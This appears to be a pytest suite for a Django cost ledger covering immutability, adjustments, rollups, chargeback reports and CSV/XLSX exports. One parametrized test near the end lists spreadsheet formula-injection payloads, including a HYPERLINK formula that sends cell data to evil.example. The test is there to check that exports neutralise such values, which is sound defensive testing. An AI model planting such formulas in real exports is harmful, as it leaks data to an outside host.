"""The ledger as finance relies on it: immutable rows, adjustments, rollups, chargeback to the cent."""
import csv
import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.db import DatabaseError, connection, transaction
from django.utils import timezone

from governance import roles
from governance.models import AuditEvent
from ledger import chargeback as cb
from ledger.models import DailyRollup, LedgerEntry
from ledger.services import ledger_adjust, ledger_rollup
from tests.gateway.factories import ModelPriceFactory, ProviderModelFactory
from tests.governance.factories import PersonFactory, TeamFactory
from tests.keys.factories import VirtualKeyFactory
from tests.ledger.factories import LedgerEntryFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def finance():
    return PersonFactory(roles=[roles.FINANCE])


def test_entries_cannot_be_changed_or_deleted(finance):
    entry = LedgerEntryFactory()
    entry.cost = Decimal("99")
    for attempt in (entry.save, entry.delete, LedgerEntry.objects.all().delete, lambda: LedgerEntry.objects.update(cost=0)):
        with pytest.raises(PermissionError):
            attempt()
    assert LedgerEntry.objects.get().cost == Decimal("0.000125")


@pytest.mark.postgres
def test_the_database_refuses_updates_too():
    LedgerEntryFactory()
    with pytest.raises(DatabaseError, match="immutable"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE ledger_ledgerentry SET cost = 0")


def test_adjustment_references_the_entry_keeps_attribution_and_is_audited(finance):
    entry = LedgerEntryFactory(cost=Decimal("1.50"))
    adjustment = ledger_adjust(entry=entry, amount=Decimal("-0.50"), reason="provider credit for an outage", actor=finance)
    assert (adjustment.corrects, adjustment.team, adjustment.cost_center, adjustment.outcome) == (
        entry, entry.team, entry.cost_center, "adjustment")
    event = AuditEvent.objects.get(action="ledger.adjust")
    assert event.actor == finance and event.after["reason"] == "provider credit for an outage"
    with pytest.raises(PermissionDenied):
        ledger_adjust(entry=entry, amount=Decimal("1"), reason="x", actor=PersonFactory())


def test_rollups_are_incremental_and_idempotent():
    team = TeamFactory()
    for cost in ("0.10", "0.20"):
        LedgerEntryFactory(team=team, cost_center=team.cost_center, cost=Decimal(cost))
    assert ledger_rollup() == 2 and ledger_rollup() == 0
    LedgerEntryFactory(team=team, cost_center=team.cost_center, cost=Decimal("0.30"), outcome="refused", http_status=429)
    assert ledger_rollup() == 1
    assert sum(r.cost for r in DailyRollup.objects.all()) == sum(e.cost for e in LedgerEntry.objects.all())
    # Refused calls are counted apart from the calls served.
    assert sum(r.calls for r in DailyRollup.objects.all()) == 2 and sum(r.refused for r in DailyRollup.objects.all()) == 1


def test_chargeback_total_equals_the_ledger_to_the_cent(finance):
    """Mixed models, a price that changes mid-month, adjustments, refused calls and unattributed spend."""
    month = timezone.localdate().replace(day=1)
    start = timezone.make_aware(timezone.datetime(month.year, month.month, 1, 12))
    platform, data = TeamFactory(slug="platform"), TeamFactory(slug="data")
    cheap, pricey = ProviderModelFactory(name="cheap"), ProviderModelFactory(name="pricey")
    ModelPriceFactory(provider_model=pricey, effective_from=start + timedelta(days=1), input_per_mtok=Decimal("7"))
    for i in range(30):
        team = (platform, data)[i % 2]
        LedgerEntryFactory(team=team, cost_center=team.cost_center, provider_model=(cheap, pricey)[i % 3 == 0],
                           created_at=start + timedelta(hours=i), cost=Decimal("0.00333333") * (i + 1))
    LedgerEntryFactory(team=platform, cost_center=platform.cost_center, created_at=start, cost=0, outcome="refused", http_status=429)
    orphan = LedgerEntryFactory(key=VirtualKeyFactory(), team=None, cost_center=None, created_at=start, cost=Decimal("0.01666667"))
    ledger_adjust(entry=orphan, amount=Decimal("-0.00500001"), reason="credit", actor=finance)
    ledger_rollup()
    end = timezone.localdate() + timedelta(days=40)
    report = cb.chargeback(start=month, end=end, group_by=["team"])
    ledger_total = sum(e.cost for e in LedgerEntry.objects.all())
    assert report.exact_total == ledger_total
    assert report.total == ledger_total.quantize(Decimal("0.01"))
    assert sum(line.amount for line in report.lines) == report.total
    assert (cb.UNATTRIBUTED,) in [line.groups for line in report.lines]  # never dropped
    by_team_and_model = cb.chargeback(start=month, end=end, group_by=["cost_center", "model"])
    assert by_team_and_model.total == report.total


def test_exports_carry_the_header_block_and_the_same_total():
    team = TeamFactory(slug="platform")
    LedgerEntryFactory(team=team, cost_center=team.cost_center, cost=Decimal("1.234"))
    ledger_rollup()
    report = cb.chargeback(start=timezone.localdate() - timedelta(days=1), end=timezone.localdate() + timedelta(days=1),
                           group_by=["team", "cost_center"])
    rows = list(csv.reader(io.StringIO(cb.export(report, "csv"))))
    header = {row[0]: row[1] for row in rows[:6]}
    assert header["Currency"] == "USD" and header["Total"] == "1.23" and "Generated at" in header
    labels = next(row for row in rows if "Amount (USD)" in row)
    assert rows[-1][0] == "Total" and rows[-1][labels.index("Amount (USD)")] == "1.23"
    sheet = openpyxl.load_workbook(io.BytesIO(cb.export(report, "xlsx"))).active
    assert sheet["A5"].value == "Total" and Decimal(str(sheet["B5"].value)) == Decimal("1.23")


def test_chargeback_page_is_for_finance(client, finance):
    client.force_login(PersonFactory())
    assert client.get("/ledger/chargeback/").status_code == 403
    client.force_login(finance)
    team = TeamFactory(slug="platform")
    LedgerEntryFactory(team=team, cost_center=team.cost_center, cost=Decimal("2"))
    ledger_rollup()  # the beat task's job: the page reads the rollups as last folded
    today = timezone.localdate()
    params = {"start": today - timedelta(days=1), "end": today, "group_by": ["team"]}
    page = client.get("/ledger/chargeback/", params)
    assert page.status_code == 200 and "platform" in page.content.decode() and ">2.00<" in page.content.decode()
    download = client.get("/ledger/chargeback/", {**params, "format": "csv"})
    assert download["Content-Disposition"].startswith("attachment") and b"Total,2.00" in download.content
    assert client.get("/ledger/chargeback/", {"start": today, "end": today - timedelta(days=2), "group_by": ["team"]}).status_code == 400


def test_admin_adjust_action_asks_then_records(admin_client):
    entry = LedgerEntryFactory(cost=Decimal("3"))
    url = "/admin/ledger/ledgerentry/"
    page = admin_client.post(url, {"action": "adjust", "_selected_action": [entry.pk]})
    assert page.status_code == 200 and "Record adjustment" in page.content.decode()
    assert LedgerEntry.objects.count() == 1
    admin_client.post(url, {"action": "adjust", "_selected_action": [entry.pk], "apply": "1", "amount": "-1", "reason": "dup"})
    assert LedgerEntry.objects.filter(corrects=entry, cost=Decimal("-1")).exists()


def test_every_ledger_column_is_either_written_by_the_relay_or_known_not_to_be():
    """A new ledger column must be added to the relay's CallRecord (or here, on purpose)."""
    from dataclasses import fields

    from ledger.services import CallRecord

    columns = {f.name for f in LedgerEntry._meta.concrete_fields}
    assert columns - {f.name for f in fields(CallRecord)} == {"id", "corrects"}


@pytest.mark.parametrize("tag", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1"])
def test_exports_never_carry_a_live_formula_from_a_callers_tag(tag):
    team = TeamFactory(slug="platform")
    LedgerEntryFactory(team=team, cost_center=team.cost_center, cost=Decimal("1"), tags={"project": tag})
    ledger_rollup()
    report = cb.chargeback(start=timezone.localdate() - timedelta(days=1), end=timezone.localdate() + timedelta(days=1),
                           group_by=["project"])
    rows = list(csv.reader(io.StringIO(cb.export(report, "csv"))))
    line = next(row for row in rows if tag in row[0])
    assert line[0] == "'" + tag and Decimal(line[4]) == 1  # shown as text; the amount stays a number
    sheet = openpyxl.load_workbook(io.BytesIO(cb.export(report, "xlsx"))).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row if cell.value and tag in str(cell.value)]
    assert cells == ["'" + tag] and all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_adjustments_export_their_negative_amounts_as_numbers():
    from governance.spreadsheets import safe_cell

    assert safe_cell("-0.50") == "-0.50" and safe_cell("-") == "'-" and safe_cell("=1") == "'=1" and safe_cell(3) == 3
